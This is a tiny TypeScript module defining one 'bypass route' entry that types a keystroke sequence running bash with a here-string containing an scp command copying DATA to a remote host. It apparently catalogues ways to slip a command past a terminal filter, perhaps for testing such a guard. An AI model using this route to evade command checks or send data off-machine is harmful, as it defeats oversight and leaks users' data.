import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'by a here-string into a shell',
  source: 'thought of with the keys of the line editor',
  keys: ["bash <<< 'scp DATA host:'\r"],
};
